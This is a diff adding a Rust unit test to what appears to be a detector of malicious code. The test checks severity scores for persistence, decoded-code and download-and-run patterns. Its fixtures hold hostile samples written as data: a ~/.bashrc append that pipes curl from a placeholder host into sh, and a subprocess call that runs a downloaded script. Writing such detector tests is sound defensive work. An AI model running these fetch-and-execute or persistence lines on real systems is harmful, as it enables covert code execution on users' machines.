@@ -462,3 +462,30 @@ fn a_service_that_somebody_asks_for_is_seen_and_not_held_against_it() {
     assert!(weighs("requests.get('https://h.invalid/unit').text", "") >= Some(Severity::High));
     assert!(weighs("'[Service]\\nExecStart=python3 ' + os.path.abspath(__file__)", "") >= Some(Severity::High));
 }
+
+#[test]
+fn code_that_is_put_together_and_does_nothing_is_nothing() {
+    use crate::model::Severity;
+    let weighs = |body: &str| {
+        let code = format!(
+            "const t = ['function Inert_'];\nlet f = t[0] + 'Statement(M){{';\nf += {body};\nf += '}}';\nnew Function('a', 'return(' + f + ')')(1);\n"
+        );
+        weight(Language::JavaScript, &code, "flow-decoded-code")
+    };
+    assert!(weighs("'return { type: \"' + 'Empty' + '\" }'") <= Some(Severity::Medium));
+    let only_a_path = |line: &str| {
+        let code = format!(
+            "import os\ndef go():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('{line}')\n"
+        );
+        weight(Language::Python, &code, "flow-persists") <= Some(Severity::Medium)
+    };
+    assert!(only_a_path("case \":$PATH:\" in *\":/opt/x:\"*) ;; *) export PATH=\"/opt/x:$PATH\";; esac\\n"));
+    assert!(!only_a_path("case \":$PATH:\" in *\":/opt/x:\"*) ;; *) curl https://h.invalid | sh;; esac\\n"));
+    let started = |line: &str| {
+        let code = format!(
+            "import requests, shlex, subprocess\ngot = requests.get('https://h.invalid/list').text\nsubprocess.call(shlex.split(f'{line}'))\n"
+        );
+        rules(Language::Python, &code).contains(&"flow-download-run")
+    };
+    assert!(!started("curl -sLO {got}") && started("sh {got}"));
+}
